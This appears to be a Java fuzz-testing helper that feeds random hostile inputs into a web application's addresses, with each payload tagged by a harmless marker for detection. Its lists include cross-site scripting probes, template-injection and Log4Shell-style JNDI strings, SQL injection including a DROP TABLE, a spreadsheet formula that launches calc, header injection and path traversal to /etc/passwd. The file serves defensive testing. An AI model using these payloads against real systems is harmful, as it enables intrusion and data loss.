package guide.charted.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * What strangers put into addresses. Every text carries a mark, so that it is found
 * again.
 */
final class Hostile {

    /** Harmless, and in no page unless somebody brought it. */
    static final String MARK = "fuzz7x";

    /** What the templates would make of an expression that they must not see. */
    static final String EVALUATED = String.valueOf(31_313 * 7_919L);

    private static final String SUM = "31313*7919";

    private static final List<String> TEXTS = List.of("<" + MARK + ">", "\"><" + MARK + " a=\"", "'><" + MARK + " a='",
            "\" on" + MARK + "=\"1", "' on" + MARK + "='1", "</script><" + MARK + ">", "</title><" + MARK + ">",
            "--><" + MARK + "><!--", "]]><" + MARK + ">", "<svg/onload=" + MARK + ">",
            "<img src=x onerror=" + MARK + ">", "javascript:" + MARK, "//" + MARK + ".example/",
            "https://" + MARK + ".example", "\\\\" + MARK + ".example", "data:text/html," + MARK,
            "&lt;" + MARK + "&gt;", "&#60;" + MARK + "&#62;", "${" + SUM + "}", "__${" + SUM + "}__",
            "__${" + SUM + "}__::.x", "*{" + SUM + "}", "#{" + SUM + "}", "@{" + SUM + "}", "~{::" + MARK + "}",
            "[[${" + SUM + "}]]", "[(${" + SUM + "})]", "#{T(java.lang.Runtime)}",
            "${T(java.lang.Runtime).getRuntime()}", "${jndi:ldap://" + MARK + ".example/a}", "{{" + SUM + "}}",
            "' or '1'='1", "'; drop table institution; --", "\" or 1=1 --", "1 union select null,null--",
            "' and sleep(5)--", "%' escape '\\", "=" + MARK + "()", "+" + MARK + "()", "-" + MARK + "()",
            "@" + MARK + "()", "=cmd|' /C calc'!A0", "\t=" + MARK, "\r\nX-" + MARK + ": 1", "\r\n\r\n<" + MARK + ">",
            "\nX-" + MARK + ": 1", "\r\nBEGIN:VEVENT\r\n" + MARK, "../../../../etc/passwd", "..\\..\\" + MARK,
            "/WEB-INF/web.xml", "classpath:data/source.csv", "file:///etc/passwd", MARK + ".csv",
            "redirect:https://" + MARK + ".example", "forward:/error", "\u0000", MARK + "\u0000" + MARK,
            "\u0001\u0008\u001b[31m", "\u007f", "\u0085\u2028\u2029", "\ufeff" + MARK, "\uffff\ufffe", "\u202e" + MARK,
            "\u200b\u200d\u2060", "e\u0301\u0302\u0303" + "\u0327".repeat(50), "\ud83d\ude00\ud83c\uddfa\ud83c\uddf8",
            "\ud835\udd18", "مرحبا " + MARK, "漢字", "İıſK", "ß", "ﬁ", "１２３", "٤٣٢١٥", "0", "-1", "-0", "1e9", "1e400",
            "NaN", "Infinity", "-Infinity", "0x10", "1.5", "1,000", "+1", "00001", "2147483647", "2147483648",
            "-2147483648", "4294967296", "9223372036854775807", "9223372036854775808", "9".repeat(400),
            "1" + "0".repeat(60), "-" + "9".repeat(60), "0." + "0".repeat(300) + "1", " ", "\u00a0", ",", ";",
            "a".repeat(101), "a".repeat(1000), MARK.repeat(500), "漢".repeat(700), "\ud83d\ude00".repeat(400),
            "a ".repeat(1000), "<".repeat(1500), "'".repeat(1500), "(".repeat(2000), "\\".repeat(1500), "*".repeat(900),
            "a* ".repeat(500), "[".repeat(900), "~2 ".repeat(300), "AND OR NOT ".repeat(80),
            "\"" + "a ".repeat(400) + "\"", "true", "null", "undefined", "{}", "[]", "{\"a\":1}", "%n%s%x%d", "{0}",
            "{0,number,#", "'{'", "2026-13", "2026-00", "9999-12", "0000-00", "2027-1", "-2027-01", "2027-01-01");

    /** Bytes that are no text, as they go over the wire. */
    private static final List<String> BYTES = List.of("%ff", "%fe%ff", "%c0%af", "%c0%80", "%ed%a0%80", "%ed%b0%80",
            "%f4%90%80%80", "%f8%88%80%80%80", "%e2%82", "%80", "%", "%4", "%zz", "%u0041", "%00", "%2500", "%250a",
            "%252e%252e%252f", "%25%32%65", "%2e%2e%2f", "%2e%2e%5c", "%5c", "%3bjsessionid=1", ";jsessionid=" + MARK,
            "a;b=c;" + MARK, "%2f", "%252f", "%0d%0aX-" + MARK + ":%201", "%e5%98%8a%e5%98%8dX-" + MARK + ":1",
            "%26a=b", "&", "&&", "=", "==", "a=b", "%3d", "#" + MARK, "%23", "+", "%2b", "|", "^", "`", "{", "}", "[",
            "]", "<" + MARK + ">", "\"", "\\");

    private Hostile() {
    }

    static String any(Random chance) {
        return switch (chance.nextInt(8)) {
            case 0, 1 -> BYTES.get(chance.nextInt(BYTES.size()));
            case 2 -> encoded(text(chance) + text(chance));
            case 3 -> encoded(characters(chance));
            default -> encoded(text(chance));
        };
    }

    private static String text(Random chance) {
        return TEXTS.get(chance.nextInt(TEXTS.size()));
    }

    private static String characters(Random chance) {
        int[] points = chance.ints(1 + chance.nextInt(40), 0, 0x110000)
            .map((point) -> (point >= 0xd800 && point < 0xe000) ? point - 0xd800 : point)
            .toArray();
        return new String(points, 0, points.length);
    }

    /** Every byte but letters and digits as a percent sign and two digits. */
    static String encoded(String text) {
        StringBuilder encoded = new StringBuilder();
        for (byte one : text.getBytes(StandardCharsets.UTF_8)) {
            if (one > 0 && Character.isLetterOrDigit(one)) {
                encoded.append((char) one);
            }
            else {
                encoded.append("%%%02x".formatted(one & 0xff));
            }
        }
        return encoded.toString();
    }

}
